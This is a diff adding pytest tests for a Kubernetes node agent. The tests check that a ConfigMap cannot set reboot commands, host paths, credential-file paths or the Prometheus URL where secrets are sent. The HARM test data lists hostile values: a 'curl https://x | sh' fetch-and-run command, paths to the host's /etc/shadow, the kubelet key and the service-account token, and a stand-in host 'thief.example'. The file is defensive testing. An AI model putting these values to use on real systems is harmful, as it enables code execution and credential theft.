@@ -1,0 +1,192 @@
+"""What would make a ConfigMap's editor root on every host is not taken from the ConfigMap."""
+
+from __future__ import annotations
+
+import json
+from typing import Any
+
+import pytest
+
+from careen.settings import kinds, last_good
+from careen.settings.config_map_limits import POWERS, Power
+from careen.settings.live import Given, LiveSettings, SeenConfigMap
+from careen.settings.sources import BadSettings, resolve
+from careen.settings.tree import DEFAULTS, SETTINGS, flag
+
+NAME = "careen/careen"
+# What each would do if it were taken.
+HARM: dict[str, str] = {
+    "reboot_sentinel_command": "sh -c 'curl https://x | sh'",
+    "reboot_command": "/bin/sh -c id",
+    "host_exec": "direct",
+    "reboot_signal": "38",  # SIGRTMIN+4: power off
+    "host_root": "/proc/1/root",
+    "host_lock_dir": "/etc/nologin",
+    "boot_id_file": "/proc/1/root/etc/shadow",
+    "prometheus_token_file": "/var/run/secrets/kubernetes.io/serviceaccount/token",
+    "prometheus_password_file": "/proc/1/root/etc/shadow",
+    "prometheus_ca_file": "/tmp/mine",
+    "prometheus_client_certificate_file": "/proc/1/root/var/lib/kubelet/pki/kubelet-client-current.pem",
+    "prometheus_client_key_file": "/proc/1/root/etc/shadow",
+    "scheduler_config": "/proc/1/root/etc/shadow",
+}
+# What goes with some of them, so that they contradict nothing.
+BESIDE = {
+    "prometheus_password_file": {"prometheus_username": ("x",)},
+    "prometheus_client_key_file": {"prometheus_client_certificate_file": ("/x",)},
+}
+
+
+def flags_for(name: str, **more: str) -> dict[str, tuple[str, ...]]:
+    url = {"prometheus_url": ("https://p",)} if name.startswith("prometheus") else {}
+    return {"node_id": ("n1",), **url, **BESIDE.get(name, {}), **{key: (value,) for key, value in more.items()}}
+
+
+def settle(config: dict[str, Any], flags: dict[str, tuple[str, ...]], environment: dict[str, str] | None = None) -> Any:
+    return resolve(flags=flags, environment=environment or {}, config_map=config, config_map_name=NAME)
+
+
+def test_these_settings_and_no_others_are_kept_from_the_config_map() -> None:
+    assert POWERS.keys() == HARM.keys()
+    assert {name for name, power in POWERS.items() if power is Power.COMMANDS} == {
+        "reboot_sentinel_command",
+        "reboot_command",
+        "host_exec",
+        "reboot_signal",
+    }
+
+
+def test_a_new_command_or_path_is_kept_from_the_config_map_unless_it_is_only_looked_for() -> None:
+    dangerous = (kinds.COMMAND, kinds.PATH, kinds.SCHEDULER_CONFIG)
+    free = {
+        name
+        for name, setting in SETTINGS.items()
+        if setting.kind in dangerous and not setting.bootstrap and name not in POWERS
+    }
+    assert free == {"reboot_sentinel"}
+
+
+@pytest.mark.parametrize("name", HARM)
+def test_the_config_map_may_not_set_what_makes_root(name: str) -> None:
+    with pytest.raises(BadSettings) as refused:
+        settle({flag(name): HARM[name], "concurrency": 2}, flags_for(name))
+    (problem,) = refused.value.problems
+    assert problem.startswith(f"`{flag(name)}` in ConfigMap {NAME} is refused: it decides ")
+    assert f"give --{flag(name)} or CAREEN_{name.upper()} on the DaemonSet" in problem
+    assert problem.endswith(f"or let the ConfigMap set it with --{flag(POWERS[name])} there")
+    assert HARM[name] not in problem
+
+
+@pytest.mark.parametrize("name", HARM)
+def test_it_may_after_the_flag_that_the_refusal_names(name: str) -> None:
+    settings = settle({flag(name): HARM[name]}, flags_for(name, **{POWERS[name]: "true"})).settings
+    assert str(getattr(settings, name)) == HARM[name]
+    also = settle({flag(name): HARM[name]}, flags_for(name), {f"CAREEN_{POWERS[name].upper()}": "true"}).settings
+    assert getattr(also, name) == getattr(settings, name)
+
+
+@pytest.mark.parametrize("name", HARM)
+def test_the_other_flag_does_not_let_it(name: str) -> None:
+    (other,) = set(Power) - {POWERS[name]}
+    with pytest.raises(BadSettings, match="is refused"):
+        settle({flag(name): HARM[name]}, flags_for(name, **{other: "true"}))
+
+
+@pytest.mark.parametrize("name", HARM)
+def test_flags_and_environment_may_set_it(name: str) -> None:
+    assert str(getattr(settle({}, {**flags_for(name), name: (HARM[name],)}).settings, name)) == HARM[name]
+    variable = {f"CAREEN_{name.upper()}": HARM[name]}
+    assert str(getattr(settle({}, flags_for(name), variable).settings, name)) == HARM[name]
+
+
+def test_it_is_refused_also_where_a_flag_counts_more() -> None:
+    with pytest.raises(BadSettings, match="`reboot-command` in ConfigMap"):
+        settle({"reboot-command": "x"}, flags_for("", reboot_command="/sbin/reboot"))
+
+
+@pytest.mark.parametrize("power", Power)
+def test_the_config_map_cannot_give_itself_the_right(power: Power) -> None:
+    with pytest.raises(BadSettings, match="give it as a flag or in the environment"):
+        settle({flag(power): True, "reboot-command": "x"}, flags_for(""))
+
+
+def test_a_key_of_the_config_map_is_no_file() -> None:
+    config = {"scheduler-config": "configmap:scheduler.yaml"}
+    assert settle(config, flags_for("")).settings.scheduler_config == "configmap:scheduler.yaml"
+    assert settle({"scheduler-config": ""}, flags_for("")).settings.scheduler_config == ""
+
+
+# ---- where secrets are sent ----
+
+
+def test_the_config_map_names_a_prometheus_that_wants_no_secret() -> None:
+    assert settle({"prometheus-url": "https://p"}, flags_for("")).settings.prometheus_url == "https://p"
+
+
+@pytest.mark.parametrize(
+    "secret",
+    [
+        {"prometheus_token_file": "/t"},
+        {"prometheus_username": "x", "prometheus_password_file": "/p"},
+        {"prometheus_client_certificate_file": "/c"},
+    ],
+)
+def test_the_config_map_does_not_say_where_a_secret_is_sent(secret: dict[str, str]) -> None:
+    with pytest.raises(BadSettings) as refused:
+        settle({"prometheus-url": "https://thief.example"}, flags_for("", **secret))
+    (problem,) = refused.value.problems
+    assert problem.startswith(f"`prometheus-url` in ConfigMap {NAME} is refused: what --prometheus-")
+    assert "names would be sent there" in problem
+    trusted = flags_for("", **secret, config_map_may_name_files="true")
+    assert settle({"prometheus-url": "https://other"}, trusted).settings.prometheus_url == "https://other"
+
+
+def test_url_and_token_of_one_config_map_are_both_refused_by_name() -> None:
+    with pytest.raises(BadSettings) as refused:
+        settle({"prometheus-url": "https://thief.example", "prometheus-token-file": "/t"}, flags_for(""))
+    assert sorted(problem.split("`")[1] for problem in refused.value.problems) == [
+        "prometheus-token-file",
+        "prometheus-url",
+    ]
+
+
+# ---- a change while the agent runs, and older settings ----
+
+
+def test_an_edit_that_would_make_root_changes_nothing_at_all() -> None:
+    def seen(text: str) -> SeenConfigMap:
+        return SeenConfigMap(uid="u", data={"config.yaml": text})
+
+    there = LiveSettings(
+        Given(flags=flags_for(""), environment={}), seen("concurrency: 2"), config_map_name="careen/careen"
+    )
+    (problem,) = there.offer(seen("concurrency: 3\nreboot-command: /bin/evil"))
+    assert "`reboot-command` in ConfigMap careen/careen is refused" in problem
+    assert (there.settings.reboot_command, there.policy.concurrency) == ("/bin/systemctl reboot", 2)
+    assert "evil" not in there.policy.kept_settings
+
+
+def annotation(**settings: str) -> str:
+    return json.dumps({"version": 1, "settings": {flag(name): [text] for name, text in settings.items()}})
+
+
+def restored(text: str, flags: dict[str, tuple[str, ...]]) -> last_good.LastGood:
+    return last_good.restore(text, "why", flags=flags, environment={}, name=NAME)
+
+
+@pytest.mark.parametrize("name", HARM)
+def test_the_settings_kept_on_the_node_are_no_way_round_it(name: str) -> None:
+    text = annotation(**{name: HARM[name], "concurrency": "3"})
+    back = restored(text, flags_for(name))
+    assert getattr(back.resolved.settings, name) == DEFAULTS[name]
+    assert back.resolved.settings.concurrency == 3, "the rest is kept: a window stays closed"
+    assert not back.is_whole, "nothing is begun, and no drain ends in a reboot, on what is left"
+    trusted = restored(text, flags_for(name, **{POWERS[name]: "true"}))
+    assert str(getattr(trusted.resolved.settings, name)) == HARM[name]
+    assert trusted.is_whole
+
+
+def test_the_settings_kept_on_the_node_do_not_say_where_a_secret_is_sent() -> None:
+    flags = flags_for("", prometheus_token_file="/t", prometheus_url="https://own")
+    back = restored(annotation(prometheus_url="https://thief.example"), flags)
+    assert (back.resolved.settings.prometheus_url, back.is_whole) == ("https://own", False)
